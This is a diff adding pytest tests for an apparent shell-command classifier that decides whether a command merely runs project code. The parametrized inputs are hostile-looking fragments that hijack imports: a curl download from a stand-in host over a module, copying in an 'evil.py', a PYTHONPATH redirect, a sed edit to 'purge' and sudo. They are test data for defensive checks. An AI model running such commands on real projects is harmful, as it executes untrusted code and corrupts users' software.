@@ -100,3 +100,32 @@ def test_what_the_session_fetched_is_not_the_project(project: Path) -> None:
         entry = LedgerEntry(str(project / path), 0, fetched=True)
         assert not are_own(["app"], [], *where, [entry]), path
     assert are_own(["app"], [], *where, [LedgerEntry(str(project / "app"), 0)])
+
+
+WRITTEN = "cat > {path} <<'E'\nfrom app import run\nprint(run(1))\nE\n{then}python3 {path}"
+
+
+def test_a_script_that_the_text_writes_among_temporary_files_imports_them_too(project: Path, tmp_path: Path) -> None:
+    command = WRITTEN.format(path=tmp_path / "try.py", then="")
+    assert category(project, command) is Category.RunsProjectCode
+    (tmp_path / "app.py").write_text("evil")
+    assert category(project, command) is Category.Unrecognized
+
+
+@pytest.mark.parametrize(
+    "then",
+    [
+        "cp /opt/evil.py {folder}/app.py; ",
+        "curl -so app/__init__.py https://x.example/a; ",
+        "cd /opt; ",
+        "mv app away; ",
+        "PYTHONPATH=/opt/evil ",
+        "sed -i s/run/purge/ {folder}/try.py; ",
+        "sudo ",
+    ],
+)
+def test_such_a_script_counts_for_less_only_if_nothing_changes_what_it_imports(
+    project: Path, tmp_path: Path, then: str
+) -> None:
+    command = WRITTEN.format(path=tmp_path / "try.py", then=then.format(folder=tmp_path))
+    assert category(project, command) > Category.RunsProjectCode
